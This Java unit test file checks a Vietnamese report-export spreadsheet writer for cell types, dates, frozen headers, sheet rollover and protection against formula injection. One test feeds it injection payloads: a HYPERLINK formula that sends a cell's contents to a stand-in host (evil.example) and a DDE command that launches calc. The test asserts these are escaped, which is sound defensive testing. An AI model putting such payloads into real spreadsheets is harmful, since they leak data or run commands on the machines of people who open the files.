package vn.hoixa.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.LocalDateTime;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.IntStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** What is written, as another library reads it. */
class SpreadsheetTest {
    private static final LocalDateTime TIME = LocalDateTime.of(2026, 5, 31, 23, 59, 58);

    @Test
    void keepsNumbersNumbersAndTimesTimes() throws IOException {
        try (XSSFWorkbook book = written(
                new Spreadsheet(),
                List.of(new Table("Chủ đề", List.of("Chủ đề", "Số ý kiến"), List.of(List.of("Đèn đường", 2_506L)))),
                taker -> taker.accept(List.of(TIME, "Dân nhắn")))) {
            XSSFSheet themes = book.getSheet("Chủ đề");
            XSSFSheet rows = book.getSheet("Từng việc");

            assertThat(themes.getRow(1).getCell(0).getStringCellValue()).isEqualTo("Đèn đường");
            assertThat(themes.getRow(1).getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(themes.getRow(1).getCell(1).getNumericCellValue()).isEqualTo(2_506);
            assertThat(themes.getRow(0).getCell(0).getCellStyle().getFont().getBold())
                    .isTrue();
            assertThat(themes.getPaneInformation().isFreezePane()).isTrue();
            assertThat(themes.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            XSSFCell time = rows.getRow(1).getCell(0);
            assertThat(DateUtil.isCellDateFormatted(time)).isTrue();
            assertThat(time.getLocalDateTimeCellValue()).isEqualTo(TIME);
        }
    }

    @Test
    void writesNoFormulaWhateverATextSays() throws IOException {
        String attack = "=HYPERLINK(\"http://evil.example/?\"&A1)";
        try (XSSFWorkbook book = written(
                new Spreadsheet(),
                List.of(new Table(
                        "=1+1",
                        List.of("=cmd|' /C calc'!A0", "+1"),
                        List.of(List.of(attack, 1L), List.of("@SUM(1)", 2L), List.of("\t=1", 3L), List.of("-1", 4L)))),
                taker -> taker.accept(List.of(TIME, "＝1\u0001</t>")))) {
            book.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> {
                assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                if (cell.getCellType() == CellType.STRING
                        && !List.of("at", "what").contains(cell.getStringCellValue())) {
                    assertThat(cell.getStringCellValue()).startsWith("'");
                }
            })));
            assertThat(book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue())
                    .isEqualTo("'" + attack);
        }
    }

    @Test
    void goesOnOnAnotherSheetWhereOneIsFull() throws IOException {
        try (XSSFWorkbook book = written(
                new Spreadsheet(3),
                List.of(),
                taker -> IntStream.range(0, 5).forEach(i -> taker.accept(List.of(TIME, "row " + i))))) {
            assertThat(IntStream.range(0, book.getNumberOfSheets()).mapToObj(book::getSheetName))
                    .containsExactly("Từng việc", "Từng việc (2)", "Từng việc (3)");
            assertThat(book.getSheetAt(1).getRow(2).getCell(1).getStringCellValue())
                    .isEqualTo("row 3");
            assertThat(book.getSheetAt(2).getLastRowNum()).isEqualTo(1);
        }
    }

    private static XSSFWorkbook written(Spreadsheet sheets, List<Table> tables, Consumer<Consumer<List<?>>> rows)
            throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        sheets.write(out, tables, "Từng việc", List.of("at", "what"), rows);
        return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()));
    }
}
